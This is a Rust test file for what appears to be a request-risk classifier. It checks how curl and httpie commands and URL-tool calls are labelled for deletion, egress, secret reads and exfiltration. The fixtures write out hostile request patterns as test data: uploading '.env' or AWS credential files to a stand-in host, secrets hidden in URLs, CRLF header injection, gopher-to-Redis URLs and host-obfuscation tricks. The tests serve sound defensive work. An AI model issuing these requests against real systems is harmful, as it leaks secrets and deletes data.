//! Cases of requests.

use super::fixture::{
    Case, DELETION, GRAPHQL, curl, deletes_the_volume, httpie, is_opaque, setting, value,
};
use super::*;
use crate::catalogue::spec::HttpClient;
use crate::interpret::json;
use crate::interpret::value::{Origin, Piece, Stream};
use crate::vocabulary::{
    Completeness, CredentialSource, Effect, Location, ResourceType, Reversibility, SelectorKind,
    Verb,
};

#[test]
fn routes_are_matched_by_the_most_literal_path() {
    let one = |method: &str, url: &str| curl(&[("method", method)], &[url]).remove(0);
    let draft = one("delete", "https://api.acme.test/v1/volumes/vol_9");
    assert_eq!(
        (draft.operation.as_ref(), draft.resource.id.as_str()),
        ("acme:deleteVolume", "vol_9")
    );
    assert_eq!(
        one("DELETE", "https://api.acme.test/v1/volumes/cache").operation,
        "acme:clearCache"
    );
    let draft = one("DELETE", "https://api.acme.test/v1/volumes/${ID}");
    assert_eq!(
        (draft.operation.as_ref(), draft.completeness),
        ("acme:deleteVolume", Completeness::Partial)
    );
    assert_eq!(
        one("GET", "https://api.acme.test/v1/volumes/vol_9").operation,
        "http:get"
    );
    assert_eq!(
        one("POST", "https://api.acme.test/v1/objects/a/b")
            .resource
            .id,
        "a/b"
    );
    let drafts = curl(
        &[("data", r#"{"name":"n"}"#)],
        &["https://api.acme.test/v1/objects/a"],
    );
    assert_eq!(drafts[0].resource.id, "n");
    let guess = curl(
        &[("method", "DELETE")],
        &["https://api.acme.test/v1/${KIND}/x"],
    );
    assert!(
        guess
            .iter()
            .any(|draft| draft.operation == "acme:deleteVolume")
    );
    let repository = one("DELETE", "https://api.acme.test/v1/repos/r");
    assert_eq!(repository.operation, "acme:deleteRepo");
    assert_eq!(repository.location, Location::Remote);
    let hidden = curl(
        &[
            ("method", "POST"),
            ("header", "X-HTTP-Method-Override: delete"),
        ],
        &["https://api.acme.test/v1/volumes/vol_9"],
    );
    assert!(
        hidden
            .iter()
            .any(|draft| draft.operation == "acme:deleteVolume")
    );
}

#[test]
fn unknown_hosts_are_judged_by_method_and_path() {
    let one = |method: &str, url: &str| {
        let draft = curl(&[("method", method)], &[url]).remove(0);
        (
            draft.verb,
            draft.reversibility,
            draft.operation.into_owned(),
        )
    };
    let url = "https://shop.test/orders/7?x=1";
    assert_eq!(
        one("GET", url),
        (Verb::Read, Reversibility::None, "http:get".to_owned())
    );
    assert_eq!(one("DELETE", url).0, Verb::Delete);
    assert_eq!(one("PUT", url).0, Verb::Update);
    assert_eq!(one("POST", url).0, Verb::Create);
    assert_eq!(one("PURGE", url).0, Verb::Delete);
    assert_eq!(one("FROB", url).0, Verb::Unknown);
    assert_eq!(
        one("POST", "https://shop.test/orders/7/delete").0,
        Verb::Delete
    );
    assert_eq!(
        one("POST", "https://shop.test/orders:batchDelete").1,
        Reversibility::Irreversible
    );
    assert_eq!(one("GET", "gopher://shop.test:6379/_x").0, Verb::Unknown);
    assert!(is_opaque(&curl(&[("data", "${BODY}")], &["${URL}"])));
    assert!(!is_opaque(&curl(&[("data", "text")], &["${URL}"])));
    assert!(is_opaque(&curl(
        &[("header", "A: b\r\n\r\nDELETE / HTTP/1.1")],
        &[url]
    )));
    assert!(!is_opaque(&curl(&[("header", "A: b\r\n")], &[url])));
    let unseen = curl(&[("method", "${M}")], &[url]).remove(0);
    assert_eq!(
        (unseen.verb, unseen.completeness),
        (Verb::Unknown, Completeness::Opaque)
    );
    let draft = curl(&[], &["https://ann:pw@Shop.test/a%20b?token=1#f"]).remove(0);
    assert_eq!(
        (draft.resource.kind, draft.resource.id.as_str()),
        (ResourceType::Service, "shop.test/a%20b")
    );
    assert_eq!(draft.resource.parents[0].id, "shop.test");
    assert!(draft.effects.contains(Effect::Egress));
}

#[test]
fn hosts_are_known_only_when_every_reader_agrees() {
    let host = |url: &str| {
        let draft = curl(&[], &[url]).remove(0);
        let host = draft
            .selectors
            .iter()
            .find(|one| one.kind == SelectorKind::Host)
            .cloned();
        (
            host.map(|one| one.value),
            draft.effects.contains(Effect::Egress),
            draft.completeness,
        )
    };
    let name = |text: &str| Some(text.to_owned());
    assert_eq!(
        host("https://a.test/${P}"),
        (name("a.test"), true, Completeness::Partial)
    );
    for url in [
        "https://a.test${P}",
        "https://${H}/x",
        "${URL}",
        "https://a.test:${PORT}/x",
        "https://a.test\\@b.test/x",
        "https://u:$()@a.test/x",
        "https://a@b@c.test/",
        "https://a{b,c}${x}.test",
    ] {
        assert_eq!(host(url).0, None, "{url}");
        assert_eq!(host(url).2, Completeness::Partial, "{url}");
    }
    assert_eq!(host("https://u:${PASS}@a.test/x").0, name("a.test"));
    assert_eq!(
        host("http://0x7f.1/"),
        (name("127.0.0.1"), false, Completeness::Exact)
    );
    for url in [
        "localhost:3000/x",
        "http://[::1]:8/",
        "http://[::ffff:127.0.0.1]/",
        "http://x.localhost",
    ] {
        assert!(!host(url).1, "{url}");
    }
    assert_eq!(host("http://bücher.test/").0, name("xn--bcher-kva.test"));
    for role in ["proxy", "resolve"] {
        let drafts = curl(&[(role, "x"), ("data", DELETION)], &[GRAPHQL]);
        assert!(deletes_the_volume(&drafts));
        assert!(
            drafts
                .iter()
                .all(|one| one.completeness == Completeness::Partial && one.selectors.is_empty())
        );
    }
    let drafts = curl(
        &[("proxy", "x"), ("data", "{}")],
        &["https://api.acme.test/v1/search"],
    );
    assert!(drafts.iter().any(|draft| draft.verb == Verb::Create));
    let fronted = curl(
        &[("header", "Host: api.acme.test"), ("data", DELETION)],
        &["https://192.0.2.7/graphql/v2"],
    );
    assert!(deletes_the_volume(&fronted));
    let socket = curl(
        &[("unix-socket", "/run/x.sock"), ("method", "DELETE")],
        &["http://localhost/containers/x"],
    );
    assert_eq!(
        (socket[0].verb, socket[0].effects.contains(Effect::Egress)),
        (Verb::Delete, false)
    );
    assert_eq!(httpie(&[":3000/x"])[0].resource.id, "localhost/x");
    assert_eq!(httpie(&["DELETE", ":/x"])[0].verb, Verb::Delete);
}

#[test]
fn secrets_and_private_files_that_leave_are_seen() {
    let leak = |options: &[(&str, &str)], url: &str| {
        let draft = curl(options, &[url]).remove(0);
        (
            draft.effects.contains(Effect::SecretRead),
            draft.effects.contains(Effect::Exfiltration),
        )
    };
    let url = "https://drop.test/x";
    assert_eq!(leak(&[("data-binary", "@.env")], url), (true, true));
    assert_eq!(leak(&[("upload", "~/.aws/credentials")], url), (true, true));
    assert_eq!(
        leak(
            &[("form", "f=@/home/ann/.aws/credentials;type=text/plain")],
            url
        ),
        (true, true)
    );
    assert_eq!(
        leak(&[("data", "x=$(@/home/ann/notes.txt)")], url),
        (false, true)
    );
    assert_eq!(leak(&[("data", "@src/main.rs")], url), (false, false));
    assert_eq!(leak(&[("data", "k=${DB_SECRET}")], url), (true, true));
    assert_eq!(
        leak(&[("header", "X-Data: ${DB_SECRET}")], url),
        (true, true)
    );
    assert_eq!(
        leak(&[("header", "Authorization: Bearer ${DB_SECRET}")], url),
        (false, false)
    );
    assert_eq!(
        leak(&[("header", "Authorization: Bearer $(@.env)")], url),
        (true, true)
    );
    assert_eq!(
        leak(
            &[("header", "Authorization: Bearer $(@.env)")],
            "https://api.acme.test/v1/x"
        ),
        (true, false)
    );
    assert_eq!(leak(&[], "https://drop.test/?q=${DB_SECRET}"), (true, true));
    assert_eq!(leak(&[], "https://${DB_SECRET}.drop.test/"), (true, true));
    assert_eq!(
        leak(&[("data", "t=${ACME_TOKEN}")], "https://api.acme.test/v1/x"),
        (false, false)
    );
    assert_eq!(
        leak(&[("data-binary", "@.env")], "http://localhost:1/x"),
        (true, false)
    );
    assert_eq!(leak(&[("data", "k=${LANG}")], url), (false, false));
    let mut case = Case::of(HttpClient::Curl);
    case.stdin = Stream::from_origin(Origin::File("~/.aws/credentials".to_owned()));
    let draft = case.drafts(&[("data-binary", "@-")], &[url]).remove(0);
    assert!(
        draft.effects.contains(Effect::Exfiltration) && draft.effects.contains(Effect::SecretRead)
    );
    let mut known = value("https://drop.test/");
    known.pieces.push(Piece {
        text: Some("hunter2".to_owned()),
        origin: Origin::Variable("MY_TOKEN".to_owned()),
        pattern: false,
    });
    let request = Request {
        method: Some("GET".to_owned()),
        url: known,
        ..Request::default()
    };
    assert_eq!(drafts(&request, &setting())[0].resource.id, "drop.test/*");
    assert!(!format!("{:?} {request:?}", drafts(&request, &setting())).contains("hunter2"));
}

#[test]
fn credentials_are_named_by_source() {
    let used = |options: &[(&str, &str)], url: &str| {
        let credential = curl(options, &[url]).remove(0).credential?;
        Some((
            credential.source,
            credential.name,
            credential.text.map(|text| text.expose().to_owned()),
        ))
    };
    let url = "https://a.test/";
    let text = |text: &str| Some(text.to_owned());
    let literal = |shown: &str| Some((CredentialSource::Literal, None, text(shown)));
    assert_eq!(used(&[], url), None);
    assert_eq!(
        used(&[("header", "Authorization: Bearer abc")], url),
        literal("abc")
    );
    assert_eq!(
        used(&[("header", "authorization:token abc")], url),
        literal("abc")
    );
    assert_eq!(used(&[("header", "X-Api-Key: abc")], url), literal("abc"));
    assert_eq!(
        used(&[("header", "Authorization: Basic YW5uOnB3")], url),
        literal("pw")
    );
    assert_eq!(used(&[("user", "ann:pw")], url), literal("pw"));
    assert_eq!(used(&[("user", "sk_1:")], url), literal("sk_1"));
    assert_eq!(used(&[("bearer", "abc")], url), literal("abc"));
    assert_eq!(used(&[], "https://ann:pw@a.test/"), literal("pw"));
    assert_eq!(used(&[("cookie", "s=1")], url), literal("s=1"));
    assert_eq!(
        used(&[("cookie", "jar.txt")], url),
        Some((CredentialSource::File, text("jar.txt"), None))
    );
    assert_eq!(
        used(
            &[("header", "Authorization: Bearer ${T}"), ("cookie", "s=1")],
            url
        ),
        Some((CredentialSource::Environment, text("T"), None))
    );
    assert_eq!(
        used(
            &[("header", "Authorization: Bearer $(@/home/ann/.rc)")],
            url
        ),
        Some((CredentialSource::File, text("/home/ann/.rc"), None))
    );
    assert_eq!(
        used(&[("user", "ann:$()")], url),
        Some((CredentialSource::Unknown, None, None))
    );
    assert_eq!(
        used(&[("user", "ann:${P}")], url),
        Some((CredentialSource::Environment, text("P"), None))
    );
}

#[test]
fn tools_that_take_a_url_are_read() {
    let read = |text: &str| {
        let arguments = json::read(text).unwrap();
        let url = arguments.get("url").unwrap().values().remove(0);
        drafts(&url_tool::from_arguments(&arguments, &url), &setting())
    };
    let deletion = serde_json::Value::from(DELETION);
    assert!(deletes_the_volume(&read(&format!(
        r#"{{"url":"{GRAPHQL}","method":"post","body":{deletion}}}"#
    ))));
    assert!(deletes_the_volume(&read(&format!(
        r#"{{"url":"{GRAPHQL}","json":{DELETION}}}"#
    ))));
    assert!(deletes_the_volume(&read(&format!(
        r#"{{"url":"{GRAPHQL}","query":"mutation($i:ID){{volumeDelete(volumeId:$i)}}","variables":{{"i":"vol_1"}}}}"#
    ))));
    let draft =
        read(r#"{"url":"https://a.test/x","headers":{"Authorization":"Bearer t"}}"#).remove(0);
    assert_eq!((draft.verb, draft.credential.is_some()), (Verb::Read, true));
    assert_eq!(
        read(r#"{"url":"https://api.acme.test/v1/volumes/v","method":"DELETE"}"#)[0]
            .resource
            .id,
        "v"
    );
    assert!(is_opaque(&read(&format!(
        r#"{{"url":"{GRAPHQL}","body":CHECKREIN_UNSEEN}}"#
    ))));
}
